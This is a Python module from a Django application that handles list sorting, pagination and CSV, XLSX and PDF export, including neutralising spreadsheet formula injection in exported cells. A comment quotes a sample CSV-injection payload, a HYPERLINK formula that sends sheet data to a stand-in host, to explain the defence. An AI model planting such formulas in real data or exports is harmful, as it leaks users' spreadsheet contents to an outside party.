"""Lists: sorting from `?tri=`, pagination, and CSV/XLSX export of the filtered rows.

A list page runs a bounded number of queries whatever the data size: one count, one page of rows,
plus the prefetches the caller declares.
"""

from __future__ import annotations

import csv
import datetime as dt
import itertools
import math
import re
import tempfile
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from decimal import Decimal

from django.conf import settings
from django.core.paginator import Paginator
from django.db.models import QuerySet
from django.http import FileResponse, HttpResponse, StreamingHttpResponse
from django.urls import reverse
from django.utils import timezone

from pilote.lib.formats import decimal_comma

EXPORT_FORMATS = {"csv", "xlsx", "pdf"}
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@dataclass(frozen=True)
class Column:
    label: str
    value: Callable[[object], object]


def sort_queryset(queryset, requested: str, allowed: dict[str, list], default: str):
    """Order by one of the `allowed` keys (prefix '-' for descending); unknown keys fall back to default."""
    key = requested.lstrip("-") if requested else ""
    if key not in allowed:
        requested, key = default, default.lstrip("-")
    descending = requested.startswith("-")
    ordering = []
    for expr in allowed[key]:
        if isinstance(expr, str):
            ordering.append(f"-{expr}" if descending else expr)
        else:
            ordering.append(expr.desc() if descending else expr.asc())
    return queryset.order_by(*ordering, "-pk" if descending else "pk")


def sort_rows(rows: list, requested: str, allowed: dict[str, Callable[[object], object]], default: str) -> list:
    """The same `?tri=` for a report built in Python (a trial balance of a few hundred accounts): sorted by
    one of the `allowed` keys, ties kept in their original order; unknown keys fall back to default."""
    key = requested.lstrip("-") if requested else ""
    if key not in allowed:
        requested, key = default, default.lstrip("-")
    return sorted(rows, key=allowed[key], reverse=requested.startswith("-"))


def paginate(request, queryset, per_page: int = 50):
    paginator = Paginator(queryset, per_page)
    return paginator.get_page(request.GET.get("page"))


class _Echo:
    def write(self, value):
        return value


# --- One normalisation for every exported cell ------------------------------------------------------------
# A spreadsheet evaluates a text cell that starts with = + - @ (also after spaces), a tab or a carriage
# return (OWASP « CSV injection »): a contact named =HYPERLINK("http://evil.example/?d="&A2) would send the
# sheet's data away when opened. Every text cell of a spreadsheet export goes through `inert_text`, which
# prefixes such a text with a single quote. Real numbers, dates and booleans are typed values, never
# quoted: a negative amount stays a number.
FORMULA_STARTS = ("=", "+", "-", "@")
CONTROL_STARTS = ("\t", "\r")
# Text that is only a number (« -12,50 », « -1 234 ») is what it shows: a spreadsheet reads a number.
NUMBER_TEXT = re.compile(r"[+-]?\d{1,3}(?:[ \u00a0\u202f]\d{3})+(?:[.,]\d+)?|[+-]?\d+(?:[.,]\d+)?")
# Characters an XML file (an XLSX) cannot hold; openpyxl refuses them with an exception.
ILLEGAL_CHARACTERS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
XLSX_MAX_TEXT = 32_767  # characters in one cell
XLSX_MAX_ROWS = 1_048_576  # rows in one sheet, header included


def inert_text(text: str) -> str:
    """`text` as a spreadsheet shows it and never evaluates it: quoted when it would start a formula."""
    stripped = text.lstrip()
    if text.startswith(CONTROL_STARTS) or (stripped.startswith(FORMULA_STARTS) and not NUMBER_TEXT.fullmatch(stripped)):
        return "'" + text
    return text


def _as_text(value) -> str:
    if isinstance(value, dict):
        return " ; ".join(f"{key} : {_as_text(item)}" for key, item in value.items())
    if isinstance(value, list | tuple | set | frozenset):
        return ", ".join(_as_text(item) for item in value)
    if value is None:
        return ""
    return ILLEGAL_CHARACTERS.sub("", str(value))


def typed_cell(value):
    """What a column gives, as one of the few kinds every format writes: None, a number (int, finite
    Decimal or float), a date, a local naive datetime, or text (bool as oui/non; anything else — a dict,
    a list, a lazy string, an enum — as its text, so no format meets a type it cannot write)."""
    if value is None:
        return None
    if isinstance(value, bool):
        return "oui" if value else "non"
    if isinstance(value, int):
        return value
    if isinstance(value, Decimal):
        return value if value.is_finite() else None
    if isinstance(value, float):
        return value if math.isfinite(value) else None
    if isinstance(value, dt.datetime):
        return (timezone.localtime(value) if timezone.is_aware(value) else value).replace(tzinfo=None)
    if isinstance(value, dt.date):
        return value
    return _as_text(value)


def spreadsheet_cell(value):
    """`typed_cell`, with text made inert: the cell every spreadsheet export (CSV, XLSX, a future one,
    the trial balance command) writes."""
    value = typed_cell(value)
    return inert_text(value) if isinstance(value, str) else value


def csv_text(value) -> str:
    """A spreadsheet cell as CSV text, in French forms: 1234,56 ; 24/11/2026 ; 24/11/2026 14:05."""
    value = spreadsheet_cell(value)
    if value is None:
        return ""
    if isinstance(value, Decimal):
        return decimal_comma(value)
    if isinstance(value, float):
        return str(value).replace(".", ",")
    if isinstance(value, dt.datetime):
        return value.strftime("%d/%m/%Y %H:%M")
    if isinstance(value, dt.date):
        return value.strftime("%d/%m/%Y")
    return str(value)


def _xlsx_cell(value):
    value = spreadsheet_cell(value)
    if isinstance(value, str) and len(value) > XLSX_MAX_TEXT:
        return value[: XLSX_MAX_TEXT - 1] + "…"
    return value


def _pdf_cell(value) -> tuple[str, bool]:
    from pilote.lib.formats import format_number

    value = typed_cell(value)  # a PDF evaluates nothing: its text is shown as typed
    if isinstance(value, Decimal):
        return format_number(value), True
    if isinstance(value, int):
        return str(value), True  # counts and years, never grouped
    if isinstance(value, float):
        return format_number(Decimal(str(value))), True
    if isinstance(value, dt.datetime):
        return value.strftime("%d/%m/%Y %H:%M"), False
    if isinstance(value, dt.date):
        return value.strftime("%d/%m/%Y"), False
    return value or "", False


# --- Size limits ----------------------------------------------------------------------------------------
def pdf_max_rows() -> int:
    """A PDF is laid out in memory by WeasyPrint (about 10 ms a row): beyond this many rows — some
    forty pages — it would run past the server's timeout; the page offers the XLSX instead."""
    return getattr(settings, "PILOTE_PDF_MAX_ROWS", 1_000)


def xlsx_max_rows() -> int:
    """openpyxl writes about a thousand rows a second: beyond this many rows the XLSX would not be ready
    before the server's timeout (and a sheet holds 1 048 575 rows at most); the page offers the CSV, which
    is streamed as it is written, whatever its size."""
    return min(getattr(settings, "PILOTE_XLSX_MAX_ROWS", 10_000), XLSX_MAX_ROWS - 1)


class ExportTooLarge(Exception):
    """A list too long for the format asked: `ExportLimitMiddleware` answers with a French page that
    offers the other formats."""

    def __init__(self, fmt: str, limit: int, title: str):
        super().__init__(f"{fmt} export beyond {limit} rows")
        self.fmt, self.limit, self.title = fmt, limit, title


def _format_url(request, current: str, fmt: str) -> str:
    """The same export in another format: `?export=pdf` → `?export=xlsx`, or `/…/export/pdf/` → `/…/xlsx/`."""
    query = request.GET.copy()
    if query.get("export") == current:
        query["export"] = fmt
        return f"{request.path}?{query.urlencode()}"
    match = request.resolver_match
    kwargs = {key: fmt if value == current else value for key, value in match.kwargs.items()}
    url = reverse(match.view_name, args=match.args, kwargs=kwargs)
    return f"{url}?{query.urlencode()}" if query else url


def _list_url(request) -> str:
    """The list a `?export=` link was on (the same address without it), else none."""
    if "export" not in request.GET:
        return ""
    query = request.GET.copy()
    del query["export"]
    return f"{request.path}?{query.urlencode()}" if query else request.path


class ExportLimitMiddleware:
    """Turns `ExportTooLarge`, raised by `export_response` in any exporting view, into a French page."""

    def __init__(self, get_response):
        self.get_response = get_response

    def __call__(self, request):
        return self.get_response(request)

    def process_exception(self, request, exception):
        if not isinstance(exception, ExportTooLarge):
            return None
        from django.shortcuts import render

        others = [(fmt.upper(), _format_url(request, exception.fmt, fmt)) for fmt in ("xlsx", "csv")]
        context = {
            "exception": exception,
            "others": [(label, url) for label, url in others if label.lower() != exception.fmt],
            "back": _list_url(request),
        }
        return render(request, "core/export_too_large.html", context)


# --- The export -----------------------------------------------------------------------------------------
def _close(rows: Iterable) -> None:
    """Closes rows that hold a resource: `QuerySet.iterator()` on PostgreSQL reads through a server-side
    cursor, which stays open until the generator is closed. Left to the garbage collector, it is closed
    later — possibly inside another request's transaction, where the CLOSE of a cursor that transaction never
    declared fails and aborts it. Every path of the export (finished, refused as too long, interrupted)
    closes its rows here."""
    close = getattr(rows, "close", None)
    if callable(close):
        close()


def _csv_response(rows: Iterable, columns: list[Column]) -> StreamingHttpResponse:
    writer = csv.writer(_Echo(), delimiter=";", lineterminator="\r\n")

    def lines():
        # Rows go out in batches: one socket write per row would dominate a large export. A download the
        # client abandons closes this generator (the response's close()), which closes the rows.
        try:
            batch = ["\ufeff" + writer.writerow([csv_text(c.label) for c in columns])]
            for row in rows:
                batch.append(writer.writerow([csv_text(c.value(row)) for c in columns]))
                if len(batch) >= 500:
                    yield "".join(batch)
                    batch = []
            yield "".join(batch)
        finally:
            _close(rows)

    return StreamingHttpResponse(lines(), content_type="text/csv; charset=utf-8")


def _xlsx_response(rows: Iterable, columns: list[Column], basename: str, title: str) -> FileResponse:
    """Written row by row (openpyxl's write-only mode keeps no cell objects) to a temporary file that is
    streamed back and removed once sent: memory stays flat whatever the number of rows. Up to
    `xlsx_max_rows()` rows (a queryset is counted first): a longer list raises `ExportTooLarge`."""
    from openpyxl import Workbook

    # Known before a cell is written (a workbook left half-written breaks openpyxl's XML writer): a
    # queryset is counted, other rows are read up to one past the limit, which bounds what is held.
    limit = xlsx_max_rows()
    if isinstance(rows, QuerySet):
        too_long = rows.count() > limit
    else:
        source = rows
        rows = list(itertools.islice(source, limit + 1))
        _close(source)
        too_long = len(rows) > limit
    if too_long:
        raise ExportTooLarge("xlsx", limit, title)
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(_sheet_title(basename))
    sheet.append([_xlsx_cell(c.label) for c in columns])
    for row in rows:
        sheet.append([_xlsx_cell(c.value(row)) for c in columns])
    # No name on disk: the file is gone when the response, which closes it once sent, is done with it.
    handle = tempfile.TemporaryFile(suffix=".xlsx")  # noqa: SIM115 - its life is the response's
    try:
        workbook.save(handle)
        handle.seek(0)
    except BaseException:
        handle.close()
        raise
    return FileResponse(handle, content_type=XLSX_TYPE)


def _sheet_title(basename: str) -> str:
    title = re.sub(r"[\\/*?:\[\]]", "-", basename)[:31]
    return title or "Export"


def _pdf_response(rows: Iterable, columns: list[Column], basename: str, title: str, subtitle: str):
    from pilote.core.models import Structure
    from pilote.core.pdf import render_pdf

    limit = pdf_max_rows()
    table = []
    try:
        for row in rows:
            if len(table) >= limit:
                raise ExportTooLarge("pdf", limit, title or basename)
            table.append([_pdf_cell(c.value(row)) for c in columns])
    finally:
        _close(rows)
    context = {
        "title": title or basename,
        "subtitle": subtitle,
        "columns": [c.label for c in columns],
        "rows": table,
        "structure": Structure.objects.first(),
    }
    return HttpResponse(render_pdf("pdf_table.html", context), content_type="application/pdf")


def export_response(
    rows: Iterable, columns: list[Column], basename: str, fmt: str, title: str = "", subtitle: str = ""
):
    """The one export path of every list. CSV (';', UTF-8 with BOM, decimal comma — what French
    spreadsheets open) is streamed; XLSX is written in openpyxl's write-only mode to a temporary file
    streamed back, up to `xlsx_max_rows()` rows; both write every cell through `spreadsheet_cell` (typed
    values, inert text). PDF is an A4 landscape table with the structure's header and page numbers, up to
    `pdf_max_rows()` rows. A list too long for its format raises `ExportTooLarge`, which the middleware
    turns into a French page offering the other formats (the CSV has no limit)."""
    stamp = timezone.localdate().strftime("%Y%m%d")
    filename = f"{basename}-{stamp}.{fmt}"
    if fmt == "csv":
        response = _csv_response(rows, columns)
    elif fmt == "xlsx":
        response = _xlsx_response(rows, columns, basename, title or basename)
    elif fmt == "pdf":
        response = _pdf_response(rows, columns, basename, title, subtitle)
    else:
        raise ValueError(f"Unknown export format {fmt}")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
